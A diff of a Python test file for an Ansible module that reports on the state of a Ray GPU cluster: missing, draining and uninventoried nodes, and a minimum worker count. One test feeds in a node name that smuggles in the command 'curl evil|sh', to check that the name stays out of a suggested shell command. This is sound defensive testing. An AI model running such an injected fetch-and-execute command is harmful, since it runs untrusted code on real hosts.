@@ -9,6 +9,7 @@ from ansible_collections.argus.verl.plugins.module_utils.cluster.report import (
     ActiveJob,
     ClusterInfo,
     ClusterReport,
+    Scope,
     cluster_report,
 )
 from samples import planned
@@ -17,6 +18,7 @@ ANSWER = {"complete": True, "missing": [], "rows": [], "waited": 0.0, "problem":
 NODES = ["ray-head", "worker-0", "worker-1"]
 KEPT = {name: planned() for name in NODES}
 DASHBOARD = "http://127.0.0.1:8265 on box"
+SCOPE = Scope("mvp", DASHBOARD, NODES, ["ray-head"])
 
 
 def info(*states: str, problem: str = "", waited: float = 9) -> ClusterInfo:
@@ -24,17 +26,17 @@ def info(*states: str, problem: str = "", waited: float = 9) -> ClusterInfo:
         NodeRow(name, "GPU 4", "GPU 4" if state == "alive" else "never joined", NodeState(state))
         for name, state in zip(NODES, states, strict=True)
     ]
-    missing = [row.name for row in rows if row.state != NodeState.ALIVE]
+    missing = [row.name for row in rows if row.state in ("missing", "differs")]
     return ClusterInfo(not missing and not problem, missing, rows, waited, problem, jobs=[])
 
 
 def report(cluster: ClusterInfo, logs: Mapping[str, Sequence[str]] | None = None) -> ClusterReport:
-    return cluster_report(cluster, KEPT, logs or {}, "mvp", DASHBOARD)
+    return cluster_report(cluster, KEPT, logs or {}, SCOPE)
 
 
 def test_report_of_a_ready_cluster() -> None:
     plans = KEPT | {"worker-0": planned("create")}
-    assert cluster_report(info("alive", "alive", "alive"), plans, {}, "mvp", DASHBOARD) == ClusterReport(
+    assert cluster_report(info("alive", "alive", "alive"), plans, {}, SCOPE) == ClusterReport(
         title="Cluster mvp: 3 of 3 nodes as expected",
         header=["node", "state", "resources", "accelerator", "action"],
         rows=[
@@ -73,6 +75,23 @@ def test_report_of_missing_nodes_has_the_end_of_their_logs() -> None:
     )
 
 
+def test_node_without_a_log_is_not_looked_for() -> None:
+    plans = KEPT | {"worker-1": planned("create")}
+    removed = info("alive", "alive", "missing")
+    assert cluster_report(removed, plans, {}, SCOPE).fail_when.endswith("the nodes that are missing")
+    # This run has created it.
+    created = cluster_report(removed, plans, {"worker-1": ["wrong token"]}, SCOPE)
+    assert created.fail_when.endswith("are missing. `docker logs worker-1` shows more")
+    ended = cluster_report(info("alive", "missing", "missing"), plans, {}, SCOPE)
+    assert ended.fail_when.endswith("are missing. `docker logs worker-0` shows more")
+
+
+def test_log_of_a_process_is_a_file() -> None:
+    plans = {"worker-0": planned(process={"directory": "/home/ml/nodes/worker-0"})}
+    found = cluster_report(info("alive", "missing", "alive"), plans, {}, SCOPE)
+    assert found.fail_when.endswith("that are missing. /home/ml/nodes/worker-0/node.log on its host shows more")
+
+
 def test_report_without_waiting() -> None:
     assert report(info("alive", "alive", "missing", waited=0.9)).fail_when.startswith("The cluster is not ready. Fix")
     assert "after 1 s" in report(info("alive", "alive", "missing", waited=1)).fail_when
@@ -81,7 +100,7 @@ def test_report_without_waiting() -> None:
 def test_report_without_a_head() -> None:
     seen = info("missing", "missing", "missing", problem="it does not answer")
     plans = {name: planned() for name in NODES[:2]}
-    found = cluster_report(seen, plans, {}, "mvp", DASHBOARD)
+    found = cluster_report(seen, plans, {}, SCOPE)
     assert found.title == "Cluster mvp: 0 of 3 nodes as expected"
     assert found.text == ["The head: it does not answer"]
     # A node outside this run has neither an action nor an accelerator.
@@ -113,4 +132,70 @@ def test_info_from_the_module() -> None:
         waited=2.5,
         problem="x",
         jobs=[ActiveJob("grpo-1", "RUNNING")],
+        nodes=[{}],
     )
+
+
+# --- Fewer workers ----------------------------------------------------------------------------------------------------
+
+
+def with_least(cluster: ClusterInfo, least: int | None) -> ClusterReport:
+    return cluster_report(cluster, KEPT, {}, replace(SCOPE, least=least))
+
+
+def test_fewer_workers_are_enough_if_they_are_asked_for() -> None:
+    two, one = info("alive", "alive", "missing"), info("alive", "missing", "differs")
+    found = with_least(two, 1)
+    assert found.fail_when == ""
+    assert found.text == ["Goes on with fewer workers: cluster_min_workers is 1", f"Dashboard: {DASHBOARD}"]
+    # The missing one is shown nevertheless.
+    assert found.rows[2][:4] == ["worker-1", "missing", "GPU 4", "never joined"]
+    assert found.title.startswith("Cluster mvp: 2 of 3")
+    assert with_least(two, None).fail_when and with_least(two, 2).fail_when
+    assert with_least(one, 1).fail_when and not with_least(one, 0).fail_when
+    # More than there are is all of them.
+    assert with_least(two, 7).fail_when and not with_least(info("alive", "alive", "alive"), 7).fail_when
+
+
+def test_no_number_of_workers_replaces_the_head() -> None:
+    assert with_least(info("missing", "alive", "alive"), 0).fail_when
+    assert with_least(info("alive", "alive", "missing", problem="it is slow"), 0).fail_when
+
+
+def test_ready_cluster_does_not_go_on_with_fewer() -> None:
+    assert with_least(info("alive", "alive", "alive"), 1).text == [f"Dashboard: {DASHBOARD}"]
+
+
+# --- Nodes that people have to know about -----------------------------------------------------------------------------
+
+
+def ray_node(name: str, state: str = "ALIVE") -> dict[str, object]:
+    return {"node_name": name, "state": state, "node_ip": "10.0.0.7", "resources_total": {"GPU": 8.0, "memory": 1.0}}
+
+
+def test_node_that_is_not_in_the_inventory_is_named() -> None:
+    nodes = [ray_node("worker-0"), ray_node("worker-9"), ray_node("worker-8", "DEAD")]
+    (line, _dashboard) = report(replace(info("alive", "alive", "alive"), nodes=nodes)).text
+    assert line == (
+        "worker-9 at 10.0.0.7 (CPU 0, GPU 8) is not in the inventory, and takes jobs. "
+        "To take it out: drain.yml -e node=worker-9"
+    )
+
+
+def test_odd_name_is_in_no_command() -> None:
+    (line, _dashboard) = report(replace(info("alive", "alive", "alive"), nodes=[ray_node("x;curl evil|sh\nroot")])).text
+    assert line.startswith(
+        "x;curl evil|sh\\nroot at 10.0.0.7 (CPU 0, GPU 8) is not in the inventory, and takes jobs. No "
+    )
+    assert "drain.yml" not in line
+
+
+def test_draining_node_is_named() -> None:
+    found = report(info("alive", "draining", "alive"))
+    assert found.title == "Cluster mvp: 3 of 3 nodes as expected"
+    assert found.text[0].startswith("worker-0: no new work. To take it back, run drain.yml")
+
+
+def test_nodes_that_the_limit_leaves_out_are_counted() -> None:
+    found = cluster_report(info("alive", "alive", "alive"), KEPT, {}, replace(SCOPE, outside=["worker-2", "worker-3"]))
+    assert found.title == "Cluster mvp: 3 of 3 nodes as expected, 2 not in this run"
